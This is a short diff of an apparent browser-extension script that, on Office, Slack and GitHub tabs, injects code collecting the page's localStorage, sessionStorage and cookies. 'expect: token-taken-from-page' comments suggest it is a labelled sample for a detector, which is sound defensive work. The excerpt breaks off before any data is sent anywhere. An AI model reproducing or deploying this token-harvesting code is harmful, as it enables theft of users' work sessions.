@@ -1,15 +1,16 @@
 chrome.tabs.onUpdated.addListener((tabId, {status: status}, tab) => {
   if (status !== 'complete' || !/office|slack|github/.test(tab.url)) return;
-  // expect: token-taken-from-page
   chrome.scripting.executeScript({
     target: {
       tabId: tabId
     },
     func: () => ({
       ls: {
+        // expect: token-taken-from-page
         ...localStorage
       },
       ss: {
+        // expect: token-taken-from-page
         ...sessionStorage
       },
       ck: document.cookie
